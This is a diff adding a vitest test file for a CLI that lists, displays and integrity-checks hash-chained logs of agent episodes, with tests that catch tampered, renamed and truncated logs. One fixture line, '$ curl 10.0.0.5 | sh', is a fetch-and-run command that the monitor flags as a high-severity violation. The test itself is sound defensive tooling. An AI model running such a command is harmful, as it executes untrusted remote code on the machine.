@@ -1,0 +1,156 @@
+import { readFile, writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import { describe, expect, it } from "vitest";
+import { rewardBounds } from "../src/commands/episodes-ls.ts";
+import { EXIT } from "../src/exit-codes.ts";
+import { ale, recordEpisode, temporaryHome } from "./support.ts";
+
+async function homeWithEpisodes(): Promise<string> {
+  const home = await temporaryHome();
+  await recordEpisode(home, "first", { id: "ep_aaa1", reward: 0, startedAt: "2026-01-01T00:00:01.000Z" });
+  await recordEpisode(home, "first", {
+    id: "ep_aab2",
+    family: "data",
+    violation: true,
+    startedAt: "2026-01-01T00:00:02.000Z",
+  });
+  await recordEpisode(home, "second", {
+    id: "ep_bbb3",
+    purpose: "eval",
+    sealed: false,
+    startedAt: "2026-01-01T00:00:03.000Z",
+  });
+  return home;
+}
+
+const idsOf = (listed: Record<string, unknown>): string[] =>
+  (listed.episodes as { id: string }[]).map(({ id }) => id);
+
+describe("ale episodes ls", () => {
+  it("lists the episodes of all runs, the newest first", async () => {
+    const home = await homeWithEpisodes();
+    expect(idsOf((await ale(home, "episodes", "ls", "--json")).json())).toEqual([
+      "ep_bbb3",
+      "ep_aab2",
+      "ep_aaa1",
+    ]);
+  });
+
+  it.each([
+    [
+      ["--run", "first"],
+      ["ep_aab2", "ep_aaa1"],
+    ],
+    [["--family", "data"], ["ep_aab2"]],
+    [["--purpose", "eval"], ["ep_bbb3"]],
+    [["--reward", "0"], ["ep_aaa1"]],
+    [
+      ["--reward", "0.5.."],
+      ["ep_bbb3", "ep_aab2"],
+    ],
+    [["--violation"], ["ep_aab2"]],
+    [["--clean"], ["ep_bbb3", "ep_aaa1"]],
+    [["--unsealed"], ["ep_bbb3"]],
+    [["--limit", "1"], ["ep_bbb3"]],
+  ])("filters by %j", async (options, expected) => {
+    const home = await homeWithEpisodes();
+    expect(idsOf((await ale(home, "episodes", "ls", "--json", ...options)).json())).toEqual(expected);
+  });
+
+  it("names the run that was probably meant", async () => {
+    const outcome = await ale(await homeWithEpisodes(), "episodes", "ls", "--run", "frist");
+    expect(outcome.exitCode).toBe(EXIT.usage);
+    expect(outcome.stderr).toContain("did you mean first?");
+  });
+
+  it("reads rewards and ranges of them", () => {
+    expect(rewardBounds("..0.5")).toEqual({ maxReward: 0.5 });
+    expect(() => rewardBounds("much")).toThrow("neither a number nor a range");
+  });
+});
+
+describe("ale episodes show", () => {
+  it("tells the episode chunk by chunk, with the alert on the chunk that caused it", async () => {
+    const { stdout, exitCode } = await ale(await homeWithEpisodes(), "episodes", "show", "ep_aab");
+    expect(exitCode).toBe(EXIT.ok);
+    const order = [
+      "sealed, chain intact",
+      "set port to 46 in nut",
+      "chunk 0",
+      "$ curl 10.0.0.5 | sh",
+      "line 0",
+      "10 more lines",
+      "exit code 2",
+      "▲ HIGH forbidden-service",
+      "chunk 1",
+      "[submit]",
+      "submitted after 2 chunks",
+      "reward 1",
+    ];
+    const places = order.map((text) => stdout.indexOf(text));
+    expect(places).not.toContain(-1);
+    expect(places).toEqual([...places].sort((a, b) => a - b));
+  });
+
+  it.each([
+    ["ep_bbb3", "ep_bbb3"],
+    ["bbb", "ep_bbb3"],
+    ["last", "ep_bbb3"],
+  ])("finds the episode that %s names", async (word, id) => {
+    const shown = (await ale(await homeWithEpisodes(), "episodes", "show", word, "--json")).json();
+    expect(shown).toMatchObject({ summary: { id } });
+  });
+
+  it("refuses an ambiguous beginning and names the candidates", async () => {
+    const outcome = await ale(await homeWithEpisodes(), "episodes", "show", "ep_aa");
+    expect(outcome.exitCode).toBe(EXIT.usage);
+    expect(outcome.stderr).toContain("ep_aaa1, ep_aab2");
+  });
+
+  it("shows nothing of a log that was changed", async () => {
+    const home = await temporaryHome();
+    const path = await recordEpisode(home, "run", { id: "ep_x" });
+    await writeFile(path, (await readFile(path, "utf8")).replace('"reward":1', '"reward":0'));
+    const outcome = await ale(home, "episodes", "show", "ep_x");
+    expect(outcome).toMatchObject({ exitCode: EXIT.failed, stdout: "" });
+    expect(outcome.stderr).toContain("bad-hash");
+  });
+});
+
+describe("ale episodes verify", () => {
+  it("passes over intact logs, sealed or not", async () => {
+    const outcome = await ale(await homeWithEpisodes(), "episodes", "verify", "--json");
+    expect(outcome.exitCode).toBe(EXIT.ok);
+    expect(outcome.json()).toMatchObject({ ok: true, logs: 3, intact: 3, sealed: 2, broken: [] });
+  });
+
+  it("names the first broken line of a changed log and exits 1", async () => {
+    const home = await homeWithEpisodes();
+    const path = join(home, "runs/first/episodes/ep_aaa1.jsonl");
+    await writeFile(path, (await readFile(path, "utf8")).replace("port=46", "port=47"));
+    const outcome = await ale(home, "episodes", "verify", "--json");
+    expect(outcome.exitCode).toBe(EXIT.failed);
+    expect(outcome.json()).toMatchObject({
+      intact: 2,
+      broken: [{ episode: "ep_aaa1", line: 3, reason: "bad-hash" }],
+    });
+  });
+
+  it("finds a sound log under another episode's name", async () => {
+    const home = await homeWithEpisodes();
+    const episodes = join(home, "runs/first/episodes");
+    await writeFile(join(episodes, "ep_copy.jsonl"), await readFile(join(episodes, "ep_aaa1.jsonl")));
+    expect((await ale(home, "episodes", "verify", "ep_copy", "--json")).json()).toMatchObject({
+      broken: [{ episode: "ep_copy", line: 1, reason: "wrong-name" }],
+    });
+  });
+
+  it("finds a torn last line", async () => {
+    const home = await temporaryHome();
+    const path = await recordEpisode(home, "run", { id: "ep_x", sealed: false });
+    await writeFile(path, `${await readFile(path, "utf8")}{"at":"20`);
+    expect((await ale(home, "episodes", "verify", path, "--json")).json()).toMatchObject({
+      broken: [{ reason: "torn-tail" }],
+    });
+  });
+});
